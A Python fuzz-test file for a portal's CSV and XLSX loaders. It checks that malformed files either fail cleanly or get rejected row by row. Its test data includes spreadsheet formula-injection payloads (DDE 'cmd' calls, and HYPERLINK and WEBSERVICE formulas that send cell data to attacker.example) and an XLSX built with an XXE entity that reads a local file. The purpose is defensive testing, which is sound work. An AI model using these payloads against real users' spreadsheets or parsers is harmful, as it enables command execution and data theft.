"""Malformed raw files into every loader (issue 9): binary junk, truncated and corrupted XLSX,
mixed encodings, NUL bytes, 100,000-column lines, megabyte fields, spreadsheet formulas, an
XLSX with an external XML entity. Each load either fails with one clear line naming the file
(nothing in the store changed, no rejects file left behind) or loads and rejects row by row
(rows = loaded + rejected, the batch says so); never another exception, never half a file.
Formulas are stored as the text typed, never evaluated, and the rejects file is inert.

The hand-written bad-row rules are in test_loaders_rejects.py; this file generates inputs.
``FILES_FUZZED`` counts the files tried in a run (printed with ``-s``)."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from loaders import KINDS, AllRowsRejected, UnusableFile, load_file
from portal.spreadsheet import FORMULA_START
from tests.conftest import report_line
from tests.loader_fixtures import KEY, registered_store, rows_of, snapshot
from tests.test_loaders_rejects import valid_rows

FILES_FUZZED: dict[str, int] = {}
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=WEBSERVICE("http://attacker.example/"&B2)',
    "\t=1+1",
    "\r=1+1",
]
TABLES = {
    "programmes": "programme",
    "regions": "region",
    "stage_standards": "stage_standard",
    "children": "child",
    "donations": "donation",
    "disbursements": "disbursement",
    "volunteer_hours": "service_record",
}


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("fuzz")
    return registered_store(tmp, 6)


def _good(kind: str, env) -> list[dict]:
    return valid_rows(kind, env)


def _csv_bytes(rows: list[dict], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(list(rows[0]))
    writer.writerows([[r[h] for h in rows[0]] for r in rows])
    return buffer.getvalue().encode(encoding)


def _xlsx_bytes(rows: list[dict]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(rows[0]))
    for r in rows:
        sheet.append([r[h] for h in rows[0]])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _inert(path: Path) -> None:
    with open(path, encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or _number(cell), f"live formula in {path.name}: {cell!r}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_load(env, kind: str, name: str, content: bytes, label: str) -> str:
    """Load one file; assert the all-or-nothing contract. Returns 'unusable', 'rejected' (every
    row rejected: a failed load), 'unchanged' or 'loaded'."""
    engine, tmp, *_ = env
    db = tmp / "working.db"
    path = tmp / name
    path.write_bytes(content)
    rejects = path.with_name(path.name + ".rejects.csv")
    rejects.unlink(missing_ok=True)
    before = snapshot(db)
    batches = rows_of(db, "SELECT COUNT(*) FROM batch")[0][0]
    FILES_FUZZED[label] = FILES_FUZZED.get(label, 0) + 1
    try:
        result = load_file(kind, path, engine=engine, key=KEY, lang=random.choice(("zh", "en")))
    except UnusableFile as exc:
        message = str(exc)
        assert message and "\n" not in message and "Traceback" not in message
        assert name in message or "key" in message.lower(), message
        assert snapshot(db) == before, "an unusable file changed the store"
        assert not rejects.exists() and not rejects.with_name(rejects.name + ".part").exists()
        return "unusable"
    except AllRowsRejected as exc:
        message = str(exc)
        assert message and "\n" not in message and "Traceback" not in message
        assert snapshot(db) == before, "a file whose every row was rejected changed the store"
        assert exc.result.loaded == 0
        assert exc.result.rejected == exc.result.rows > 0
        assert rejects.exists() and not rejects.with_name(rejects.name + ".part").exists()
        _inert(rejects)
        return "rejected"
    assert not rejects.with_name(rejects.name + ".part").exists()
    if result.rejected:
        assert rejects.exists()
        _inert(rejects)
    if result.unchanged:  # the same bytes loaded before, or nothing differs: no change, no batch
        assert snapshot(db) == before
        return "unchanged"
    assert result.rows == result.loaded + result.rejected
    after = rows_of(db, f"SELECT rows, loaded, rejected FROM batch WHERE id = {result.batch_id}")
    assert after == [(result.rows, result.loaded, result.rejected)]
    assert rows_of(db, "SELECT COUNT(*) FROM batch")[0][0] == batches + 1
    return "loaded"


# ------------------------------------------------------------------------------ generators

kinds = st.sampled_from(KINDS)
FAST = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FAST
@given(kind=kinds, junk=st.binary(min_size=0, max_size=4096), suffix=st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_binary_junk(env, kind, junk, suffix):
    assert check_load(env, kind, f"junk{suffix}", junk, "binary junk") in (
        "unusable",
        "rejected",
        "loaded",
        "unchanged",
    )


@FAST
@given(kind=kinds, cut=st.floats(min_value=0.0, max_value=0.999))
def test_truncated_xlsx(env, kind, cut):
    data = _xlsx_bytes(_good(kind, env))
    check_load(env, kind, "cut.xlsx", data[: max(1, int(len(data) * cut))], "truncated xlsx")


@FAST
@given(kind=kinds, flips=st.integers(1, 8), seed=st.integers(0, 10**6))
def test_corrupted_xlsx(env, kind, flips, seed):
    data = bytearray(_xlsx_bytes(_good(kind, env)))
    rng = random.Random(seed)
    for _ in range(flips):
        data[rng.randrange(len(data))] = rng.randrange(256)
    check_load(env, kind, "broken.xlsx", bytes(data), "corrupted xlsx")


@FAST
@given(
    kind=kinds,
    encodings=st.lists(st.sampled_from(["utf-8", "gb18030", "utf-16-le", "big5", "latin-1", "shift_jis"]), min_size=2),
    cut=st.integers(0, 200),
)
def test_mixed_encodings_and_cut_rows(env, kind, encodings, cut):
    rows = _good(kind, env)
    header = _csv_bytes(rows[:1]).split(b"\r\n", 1)[0] + b"\r\n"
    body = b""
    for i, r in enumerate(rows):
        line = _csv_bytes([r]).split(b"\r\n", 1)[1]
        try:
            body += line.decode("utf-8").encode(encodings[i % len(encodings)], errors="replace")
        except (UnicodeEncodeError, LookupError):
            body += line
    data = header + body
    data = data[: len(data) - cut] if cut else data  # cut inside a row or a multibyte character
    check_load(env, kind, "mixed.csv", data, "mixed encodings")


@FAST
@given(kind=kinds, at=st.integers(0, 10**6), what=st.sampled_from([b"\x00", b"\x00\x00\x00\x00", b"\x1a", b'"', b"\r"]))
def test_control_bytes(env, kind, at, what):
    data = _csv_bytes(_good(kind, env))
    at = at % (len(data) + 1)
    check_load(env, kind, "ctrl.csv", data[:at] + what + data[at:], "NUL and control bytes")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("where", ["header", "row", "field"])
def test_huge_lines(env, kind, where):
    """A 100,000-column header or row, and a 2 MB field: an error or rejected rows, quickly."""
    rows = _good(kind, env)
    data = _csv_bytes(rows)
    header, rest = data.split(b"\r\n", 1)
    if where == "header":
        data = header + b"," + b",".join(b"c%d" % i for i in range(100_000)) + b"\r\n" + rest
    elif where == "row":
        data = header + b"\r\n" + b",".join([b"x"] * 100_000) + b"\r\n" + rest
    else:
        data = header + b"\r\n" + b"A" * 2_000_000 + b"\r\n" + rest
    check_load(env, kind, f"huge_{where}.csv", data, "100k-column lines and huge fields")


@FAST
@given(kind=kinds, formula=st.sampled_from(FORMULAS), column=st.integers(0, 20), as_xlsx=st.booleans())
def test_formulas_are_text_never_run(env, kind, formula, column, as_xlsx):
    rows = _good(kind, env)
    names = list(rows[0])
    target = names[column % len(names)]
    for r in rows[::2]:
        r[target] = formula
    if as_xlsx:
        check_load(env, kind, "formula.xlsx", _xlsx_bytes(rows), "formulas")
    else:
        check_load(env, kind, "formula.csv", _csv_bytes(rows), "formulas")


def test_formula_names_are_stored_as_typed(env):
    _engine, tmp, *_ = env
    rows = [
        {"code": f"F-{i}", "name_zh": f, "name_en": f, "started_on": "2020-01-01"} for i, f in enumerate(FORMULAS[:6])
    ]
    assert check_load(env, "programmes", "fp.csv", _csv_bytes(rows), "formulas") == "loaded"
    stored = dict(rows_of(tmp / "working.db", "SELECT code, name_zh FROM programme WHERE code LIKE 'F-%'"))
    assert stored == {r["code"]: r["name_zh"] for r in rows}, "a formula must be kept as the text typed"
    # an XLSX formula cell: its cached value is read (none here), the formula is never evaluated
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["code", "name_zh", "name_en", "started_on"])
    sheet.append(["X-1", "=1+1", '=HYPERLINK("http://attacker.example")', "2020-01-01"])
    sheet.append(["X-2", "正常", "fine", "2020-01-01"])
    buffer = io.BytesIO()
    book.save(buffer)
    check_load(env, "programmes", "fx.xlsx", buffer.getvalue(), "formulas")
    names = rows_of(tmp / "working.db", "SELECT name_zh FROM programme")
    assert ("2",) not in names, "a formula was evaluated"


def test_rejected_formula_values_are_inert_in_the_rejects_file(env):
    rows = _good("donations", env)
    for i, r in enumerate(rows):
        r["receipt_no"] = f"RF{i}"
    rows[1]["channel"] = FORMULAS[0]
    rows[2]["programme"] = FORMULAS[1]
    rows[3]["amount"] = FORMULAS[3]
    assert check_load(env, "donations", "fr.csv", _csv_bytes(rows), "formulas") == "loaded"
    text = (env[1] / "fr.csv.rejects.csv").read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text  # the value is there for the clerk, as text


def test_xlsx_external_entity_is_not_fetched(env, tmp_path):
    """An XLSX whose shared strings declare an external entity (XXE) pointing at a local file:
    the file's content never reaches the store or the rejects file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("XXE-CANARY-7f3a", encoding="utf-8")
    source = _xlsx_bytes([{"code": "E-1", "name_zh": "占位", "name_en": "x", "started_on": "2020-01-01"}])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                text = data.decode()
                text = text.replace(
                    "<sst ", f'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]><sst ', 1
                ).replace("占位", "&xxe;")
                data = text.encode()
            zout.writestr(item, data)
    check_load(env, "programmes", "xxe.xlsx", out.getvalue(), "xlsx external entity")
    _engine, tmp, *_ = env
    blob = (tmp / "working.db").read_bytes()
    assert b"XXE-CANARY" not in blob
    rejects = tmp / "xxe.xlsx.rejects.csv"
    assert not rejects.exists() or b"XXE-CANARY" not in rejects.read_bytes()


def test_zz_report_counts(env, request):
    """Runs last in this module: the number of files fuzzed (the issue's note quotes it)."""
    total = sum(FILES_FUZZED.values())
    report_line(request.config, f"files fuzzed: {total} {FILES_FUZZED}")
    assert total >= 7 * 3 + 6 * 200 or not FILES_FUZZED  # when run alone (-k) the others did not run
